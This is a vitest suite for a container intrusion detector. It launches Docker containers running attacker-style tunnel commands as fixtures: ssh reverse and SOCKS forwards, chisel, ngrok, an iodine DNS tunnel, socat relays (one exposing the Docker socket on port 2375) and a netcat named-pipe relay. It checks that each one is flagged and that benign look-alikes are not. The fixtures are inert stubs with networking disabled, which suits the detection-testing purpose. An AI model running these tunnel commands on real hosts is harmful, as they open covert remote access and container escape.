import { execFileSync } from 'node:child_process';
import { chmodSync, copyFileSync, mkdirSync, mkdtempSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import type Docker from 'dockerode';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runDetectors, type DetectionResult } from '../../electron/engine/detect/run-detectors.js';
import { severityRank, type Finding } from '@shared/domain/finding.js';
import { removeSuite } from '../helpers/docker.js';
import { collect, execIn, script, start, startAll } from './harness.js';
import { reportScores, score, type Scenario } from './scores.js';

/**
 * Tunnels out of containers, by the command lines attackers use: ssh remote, dynamic and local forwards (ssh,
 * autossh), chisel, ngrok, frp, a DNS tunnel, socat relays (reverse, and the engine's socket put on a port), started
 * from a service's shell or through `docker exec`, and a container whose whole purpose is a tunnel. Each tool is
 * fixtures/idle.c compiled here and bind-mounted read-only as /opt/tools/NAME: it shows the tool's exe, comm and
 * argv and opens no socket, so no traffic leaves. Look-alikes: ssh as a git transport, a cloudflared sidecar, a
 * socat port proxy to loopback as a container's own command, a socat client on stdio, a plain web server, and netcat fed by another program. A real busybox netcat relay (two netcats joined by a named pipe) runs beside them.
 */
const SUITE = 'detect-scenarios-tunnel';
const SOURCE = path.join(import.meta.dirname, 'fixtures/idle.c');
const TOOLS = ['ssh', 'autossh', 'chisel', 'ngrok', 'frpc', 'iodine', 'socat', 'cloudflared'];
const c: Record<string, Docker.Container> = {};
let tmp = '';
let result: DetectionResult;

const findingsFor = (key: string): Finding[] =>
  [...result.findings, ...result.suppressed].filter((f) => f.container?.id === c[key]!.id);
const tunnelOn = (key: string) => findingsFor(key).filter((f) => f.detector === 'tunnel');

const SCENARIOS: Scenario[] = [
  {
    detector: 'tunnel',
    malicious: [
      'sshReverse',
      'sshSocks',
      'autosshReverse',
      'chiselExec',
      'ngrok',
      'dnsTunnel',
      'socatReverse',
      'engineSocket',
      'frpContainer',
      'ncRelay',
    ],
    benign: ['gitOverSsh', 'cloudflaredSidecar', 'socatProxy', 'socatClient', 'web', 'ncFed'],
  },
];

/** A web server whose shell also starts `line` in the background, as an intruder's command would. */
const besideWeb = (line: string) =>
  script(`httpd -p 8080 -h /tmp; /opt/tools/${line} > /dev/null 2>&1 &`, 'exec sleep 3600');

beforeAll(async () => {
  await removeSuite(SUITE);
  tmp = mkdtempSync(path.join(os.tmpdir(), 'stowaway-tunnel-'));
  const bin = path.join(tmp, 'tools');
  mkdirSync(bin);
  execFileSync('cc', ['-static', '-O2', '-o', path.join(tmp, 'idle'), SOURCE], { stdio: 'pipe' });
  for (const name of TOOLS) {
    copyFileSync(path.join(tmp, 'idle'), path.join(bin, name));
    chmodSync(path.join(bin, name), 0o755);
  }
  chmodSync(tmp, 0o755);
  chmodSync(bin, 0o755);
  const tools = { Binds: [`${bin}:/opt/tools:ro`], NetworkMode: 'none' };
  const since = new Date(Date.now() - 1000);
  const runs: Record<string, Promise<Docker.Container>> = {
    sshReverse: start({
      suite: SUITE,
      hostConfig: tools,
      ready: true,
      cmd: besideWeb('ssh -f -N -R 0.0.0.0:2222:127.0.0.1:22 -o StrictHostKeyChecking=no tunnel@203.0.113.7'),
    }),
    sshSocks: start({ suite: SUITE, hostConfig: tools, ready: true, cmd: besideWeb('ssh -fND1080 u@203.0.113.5') }),
    autosshReverse: start({
      suite: SUITE,
      hostConfig: tools,
      ready: true,
      cmd: besideWeb('autossh -M 0 -f -N -o RemoteForward=9000:127.0.0.1:8080 u@203.0.113.5'),
    }),
    chiselExec: start({ suite: SUITE, hostConfig: tools, ready: true, cmd: script('httpd -p 8080 -h /tmp') }),
    ngrok: start({ suite: SUITE, hostConfig: tools, ready: true, cmd: besideWeb('ngrok tcp 22 --log stdout') }),
    dnsTunnel: start({
      suite: SUITE,
      hostConfig: tools,
      ready: true,
      cmd: besideWeb('iodine -f -P s3cret t1.example.net'),
    }),
    socatReverse: start({
      suite: SUITE,
      hostConfig: tools,
      ready: true,
      cmd: besideWeb('socat TCP4:203.0.113.7:443 TCP4:127.0.0.1:8080'),
    }),
    engineSocket: start({
      suite: SUITE,
      hostConfig: tools,
      ready: true,
      cmd: besideWeb('socat TCP-LISTEN:2375,fork,reuseaddr UNIX-CONNECT:/var/run/docker.sock'),
    }),
    // A container that is nothing but a tunnel client, as an intruder deploys one.
    frpContainer: start({ suite: SUITE, hostConfig: tools, cmd: ['/opt/tools/frpc', '-c', '/etc/frp/frpc.toml'] }),
    gitOverSsh: start({
      suite: SUITE,
      hostConfig: tools,
      ready: true,
      cmd: besideWeb("ssh -p 2222 -o BatchMode=yes git@203.0.113.10 git-upload-pack 'app.git'"),
    }),
    cloudflaredSidecar: start({
      suite: SUITE,
      hostConfig: tools,
      cmd: ['/opt/tools/cloudflared', 'tunnel', '--no-autoupdate', 'run'],
    }),
    socatProxy: start({
      suite: SUITE,
      hostConfig: tools,
      cmd: ['/opt/tools/socat', 'TCP-LISTEN:8081,fork,reuseaddr', 'TCP:127.0.0.1:8080'],
    }),
    socatClient: start({
      suite: SUITE,
      hostConfig: tools,
      ready: true,
      cmd: besideWeb('socat - UNIX-CONNECT:/tmp/app.sock'),
    }),
    web: start({ suite: SUITE, ready: true, cmd: script('httpd -p 8080 -h /tmp') }),
    // A real busybox relay: what reaches port 9000 goes to the web server and back (loopback only, nothing sent).
    ncRelay: start({
      suite: SUITE,
      hostConfig: { NetworkMode: 'none' },
      ready: true,
      cmd: script('httpd -p 8080 -h /tmp; mkfifo /tmp/f; (nc -l -p 9000 < /tmp/f | nc 127.0.0.1 8080 > /tmp/f) &'),
    }),
    // netcat fed by another program, and one receiving a file: no relay.
    ncFed: start({
      suite: SUITE,
      hostConfig: { NetworkMode: 'none' },
      ready: true,
      cmd: script(
        'httpd -p 8080 -h /tmp; (sleep 3600 | nc 127.0.0.1 8080 > /dev/null) & nc -l -p 9001 > /tmp/upload &',
      ),
    }),
  };
  Object.assign(c, await startAll(runs));
  // Started later through the engine, as `docker exec -d` does.
  await execIn(c.chiselExec!, [
    'sh',
    '-c',
    '/opt/tools/chisel client --fingerprint x https://203.0.113.9:443 R:socks > /dev/null 2>&1 &',
  ]);
  await new Promise((r) => setTimeout(r, 300));
  const evidence = await collect(
    Object.values(c).map((x) => x.id),
    since,
  );
  result = runDetectors(evidence);
}, 120_000);

afterAll(async () => {
  if (result) reportScores(SUITE, score(SCENARIOS, findingsFor));
  await removeSuite(SUITE);
  if (tmp) rmSync(tmp, { recursive: true, force: true });
});

describe('tunnels out of containers (real dockerd, host /proc)', () => {
  it.each([
    ['sshReverse', 'high', 'ssh:-R', 'T1572'],
    ['sshSocks', 'high', 'ssh:-D', 'T1090'],
    ['autosshReverse', 'high', 'ssh:-R', 'T1572'],
    ['chiselExec', 'high', 'chisel', 'T1572'],
    ['ngrok', 'high', 'ngrok', 'T1572'],
    ['dnsTunnel', 'high', 'iodine', 'T1071.004'],
    ['socatReverse', 'high', 'socat:reverse-relay', 'T1572'],
    ['engineSocket', 'critical', 'socat:engine-socket', 'T1611'],
    ['frpContainer', 'medium', 'frpc', 'T1572'],
    ['ncRelay', 'medium', 'nc:relay', 'T1090'],
  ])('%s draws the tunnel detector', (key, severity, cause, technique) => {
    const hits = tunnelOn(key);
    expect(
      hits.map((f) => [f.severity, f.cause]),
      JSON.stringify(findingsFor(key).map((f) => [f.detector, f.summary])),
    ).toEqual([[severity, cause]]);
    expect(hits[0]!.attack).toContain(technique);
    expect(hits[0]!.evidence[0]!.excerpt).toMatch(key === 'ncRelay' ? /nc -l -p 9000/ : /\/opt\/tools\//);
  });

  it.each(['gitOverSsh', 'cloudflaredSidecar', 'socatProxy', 'socatClient', 'web', 'ncFed'])(
    '%s draws nothing from it at medium or above',
    (key) => {
      const loud = tunnelOn(key).filter((f) => severityRank(f.severity) >= severityRank('medium'));
      expect(loud.map((f) => f.summary)).toEqual([]);
    },
  );

  it("does not take the web server's per-connection child, whose stdio is netcat's connection, for a reverse shell", () => {
    expect(
      findingsFor('ncFed')
        .filter((f) => f.detector === 'reverse-shell')
        .map((f) => f.summary),
    ).toEqual([]);
  });

  it('names the sidecar tunnels at low, so an analyst can still list them', () => {
    expect(tunnelOn('cloudflaredSidecar').map((f) => f.severity)).toEqual(['low']);
    expect(tunnelOn('socatProxy').map((f) => f.severity)).toEqual(['low']);
  });
});
